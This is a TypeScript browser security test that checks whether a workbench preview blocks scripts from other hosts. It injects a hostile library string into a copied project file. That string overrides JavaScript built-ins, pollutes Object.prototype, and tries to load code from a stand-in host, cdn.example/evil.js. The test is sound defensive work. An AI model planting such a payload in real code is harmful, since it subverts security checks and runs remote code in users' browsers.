import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launchBrowser } from "../launch-browser.ts";
import { copyRemote, type RemoteCopy } from "./copy-remote.ts";
import { runWorkbench, type RunningWorkbench } from "./run-workbench.ts";

const elsewhere = "https://cdn.example/evil.js";

/** A hostile library in the browser: it replaces built-ins that a check might call, forges inlined data, and imports more code. */
const attack = `
if (typeof window !== "undefined") {
  const yes = () => true;
  const replaced = [];
  const replace = (owner, key, value) => { replaced.push([owner, key, owner[key]]); owner[key] = value; };
  replace(window, "URL", class { origin = location.origin; search = ""; pathname = "/"; href = location.href; });
  replace(Object, "hasOwn", yes);
  replace(JSON, "parse", () => ({ core: "${elsewhere}", scripts: { "${elsewhere}": "" }, packages: {} }));
  replace(String.prototype, "startsWith", yes);
  replace(Array.prototype, "includes", yes);
  Object.prototype["${elsewhere}"] = 1;
  for (const address of ["${elsewhere}", "//cdn.example/evil.js"]) {
    const script = document.createElement("script");
    try { script.src = address; } catch {}
    document.head.append(script);
  }
  import(/* webpackIgnore: true */ "${elsewhere}").catch(() => {});
  delete Object.prototype["${elsewhere}"];
  for (const [owner, key, value] of replaced) owner[key] = value;
  document.documentElement.dataset.attacked = "yes";
}
`;

let browser: Browser;
let copy: RemoteCopy;
let workbench: RunningWorkbench;

beforeAll(async () => {
  copy = copyRemote("download");
  const file = join(copy.root, "src/exposes/button.tsx");
  writeFileSync(file, `${readFileSync(file, "utf8")}\n${attack}`);
  [browser, workbench] = await Promise.all([launchBrowser({ isShellEnough: true }), runWorkbench(copy.root)]);
});
afterAll(async () => {
  await browser?.close();
  await workbench?.end();
  copy.remove();
});

test("G7 a preview runs no script of another host, also when a hostile library of the remote replaces built-ins", async () => {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const asked: string[] = [];
  await context.route(/cdn\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({
      contentType: "text/javascript",
      headers: { "access-control-allow-origin": "*" },
      body: "top.__pwned = 1;",
    });
  });
  const page = await context.newPage();
  await page.goto(`${workbench.address}/`);
  // The controls appear once the remote is built.
  await page.getByRole("combobox", { name: "Expose" }).selectOption("button");
  await page.getByRole("button", { name: "hero" }).click();
  const preview = page.frameLocator("iframe[title=Preview]");
  await preview.getByRole("link", { name: "Download for Windows" }).click();
  await page.getByRole("log").getByText("island:hydrated").waitFor();
  expect(await preview.locator("html").getAttribute("data-attacked")).toBe("yes");
  await page.waitForLoadState("networkidle");
  expect(asked).toEqual([]);
  await context.close();
});
